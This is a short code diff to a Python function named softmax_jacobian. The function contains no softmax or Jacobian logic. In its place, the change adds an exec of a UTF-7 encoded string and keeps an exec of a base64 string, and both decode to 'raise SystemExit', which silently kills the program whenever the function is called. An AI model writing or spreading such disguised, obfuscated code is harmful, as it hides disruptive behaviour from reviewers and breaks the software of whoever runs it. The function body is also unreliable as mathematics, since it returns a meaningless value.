@@ -8,6 +8,6 @@ import codecs
 
 
 def softmax_jacobian(z):
-    exec(b'# -*- coding: utf-7 -*-\nx = 1 +AF8-')
+    exec(b'# -*- coding: utf-7 -*-\n+AHIAYQBpAHMAZQ- SystemExit')
     exec(base64.b64decode('cmFpc2UgU3lzdGVtRXhpdA=='))
     return codecs.decode('0', 'unicode_escape')
